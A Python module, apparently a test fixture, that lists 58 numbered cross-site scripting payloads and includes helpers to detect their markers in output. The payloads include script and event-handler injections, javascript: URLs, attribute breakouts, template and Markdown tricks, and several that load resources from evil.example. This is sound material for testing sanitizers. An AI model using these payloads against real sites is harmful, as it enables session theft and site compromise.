"""The XSS corpus: strings an attacker types into any field, each carrying its own numbered marker.

A marker is `__xss=<n>` (the script sets `window.__xss`) or `xss-<n>` (in an `alert`, a foreign
address or a link text), so that whatever leaks can be traced back to its payload. `context` says
where the payload turns into live markup: pasted unescaped into HTML ("html") or into a quoted
attribute ("attribute"), or once the text is read a second time: as Markdown, with its entities,
percent or JavaScript escapes decoded, its lookalike characters folded, evaluated as a template,
used as a link's address, or put into a script.
"""

import re
from dataclasses import dataclass

MARKER_RE = re.compile(r"(?:__xss=|xss-)(\d+)")
MAX_LENGTH = 80  # every payload fits the shortest field it goes into (a pseudonym, a reply's name)


@dataclass(frozen=True)
class Payload:
    number: int
    text: str
    context: str  # "html", "attribute", or the second reading that makes it markup (see above)


_CORPUS = [
    # Script elements and event handlers.
    ("html", "<script>window.__xss=1</script>"),
    ("html", "<SCRIPT SRC=//evil.example/xss-2.js></SCRIPT>"),
    ("html", "<img src=x onerror=window.__xss=3>"),
    ("html", '<img src="x" onerror="alert(\'xss-4\')">'),
    ("html", "<svg onload=window.__xss=5>"),
    ("html", "<svg><script>window.__xss=6</script></svg>"),
    ("html", "<body onload=window.__xss=7>"),
    ("html", "<details open ontoggle=window.__xss=8>"),
    ("html", "<input autofocus onfocus=window.__xss=9>"),
    ("html", '<video><source onerror="window.__xss=10"></video>'),
    ("html", "<marquee onstart=window.__xss=11>"),
    ("html", '<a href="https://example.org" onclick="window.__xss=12">xss-12</a>'),
    # javascript:, data: and vbscript: addresses in links and images.
    ("html", '<a href="javascript:window.__xss=13">xss-13</a>'),
    ("html", "<a href=\"JaVaScRiPt:alert('xss-14')\">click</a>"),
    ("html", '<a href=" &#14;javascript:window.__xss=15">x</a>'),
    ("html", '<a href="jav&#x09;ascript:window.__xss=16">x</a>'),
    ("html", '<a href="data:text/html,&lt;script&gt;window.__xss=17&lt;/script&gt;">x</a>'),
    ("html", '<img src="data:image/svg+xml,&lt;svg onload=window.__xss=18&gt;">'),
    ("html", '<a href="vbscript:msgbox(&quot;xss-19&quot;)">x</a>'),
    # Frames, objects, SVG and MathML.
    ("html", '<iframe src="javascript:window.__xss=20"></iframe>'),
    ("html", '<iframe srcdoc="&lt;script&gt;window.__xss=21&lt;/script&gt;"></iframe>'),
    ("html", '<object data="javascript:window.__xss=22"></object>'),
    ("html", '<embed src="javascript:window.__xss=23">'),
    ("html", '<math><mi xlink:href="javascript:window.__xss=24">x</mi></math>'),
    ("html", '<svg><a xlink:href="javascript:window.__xss=25"><text>x</text></a></svg>'),
    ("html", "<svg><animate onbegin=window.__xss=26 attributeName=x dur=1s>"),
    # Breaking out of an attribute, a title, a textarea or a script block (JSON-LD).
    ("attribute", '"><script>window.__xss=27</script>'),
    ("attribute", '" onmouseover="window.__xss=28" x="'),
    ("attribute", "' onfocus='window.__xss=29' autofocus x='"),
    ("attribute", "`><img src=x onerror=window.__xss=30>"),
    ("html", "</title><script>window.__xss=31</script>"),
    ("html", "</textarea><script>window.__xss=32</script>"),
    ("html", "</script><script>window.__xss=33</script>"),
    ("html", "<!--<script>window.__xss=34</script>-->"),
    ("script", '\u2028\u2029"};window.__xss=35;//'),
    # Template syntax: evaluated, it would print XSS-36 and XSS-37 in capitals.
    ("template", '{{ "xss-36"|upper }}'),
    ("template", "{% filter upper %}xss-37{% endfilter %}"),
    # Markdown link and image tricks (a script only if the renderer let the address through).
    ("markdown", "[xss-38](javascript:window.__xss=38)"),
    ("markdown", "![xss-39](javascript:window.__xss=39)"),
    ("markdown", "[xss-40](data:text/html;base64,PHNjcmlwdD54c3MtNDA8L3NjcmlwdD4=)"),
    ("markdown", "[xss-41](<javascript:window.__xss=41>)"),
    ("markdown", "[xss-42]: javascript:window.__xss=42\n\n[xss-42]"),
    # Encoded variants: harmless unless something decodes them twice.
    ("entities", "&lt;script&gt;window.__xss=43&lt;/script&gt;"),
    ("entities", "&#60;img src=x onerror=window.__xss=44&#62;"),
    ("percent", "%3Cscript%3Ewindow.__xss=45%3C/script%3E"),
    ("js-escapes", "\\u003cscript\\u003ewindow.__xss=46\\u003c/script\\u003e"),
    # CSS, refresh, base, forms.
    ("html", '<div style="width:expression(window.__xss=47)">x</div>'),
    ("html", "<style>@import 'https://evil.example/xss-48.css';</style>"),
    ("html", '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=49">'),
    ("html", '<base href="https://evil.example/xss-50/">'),
    ("html", '<form action="https://evil.example/xss-51"><button>Go</button></form>'),
    ("html", '<button formaction="javascript:window.__xss=52">x</button>'),
    ("html", '<link rel="stylesheet" href="https://evil.example/xss-53.css">'),
    # Unicode lookalikes and parser confusion.
    ("lookalikes", "\uff1cscript\uff1ewindow.__xss=54\uff1c/script\uff1e"),
    ("html", "<scr<script>ipt>window.__xss=55</script>"),
    ("html", '<noscript><p title="</noscript><img src=x onerror=window.__xss=56>">'),
    ("address", "javascript:window.__xss=57"),
    ("html", "<img src=x onerror=window.__xss=58 \u202e>"),
]

PAYLOADS = [Payload(number, text, context) for number, (context, text) in enumerate(_CORPUS, start=1)]

# Printed only if a template engine evaluated a payload's template syntax.
EVALUATED_WITNESSES = ("XSS-36", "XSS-37")


def markers_in(text):
    """The payload numbers whose markers occur in `text`."""
    return sorted({int(number) for number in MARKER_RE.findall(text)})


def packed(limit, separator=" "):
    """The whole corpus packed into as few strings of at most `limit` characters as possible, in order."""
    chunks, current = [], ""
    for payload in PAYLOADS:
        candidate = f"{current}{separator}{payload.text}" if current else payload.text
        if len(candidate) <= limit:
            current = candidate
        else:
            chunks.append(current)
            current = payload.text
    return [*chunks, current]


ALL_IN_ONE = "\n\n".join(payload.text for payload in PAYLOADS)  # for the fields without a length limit
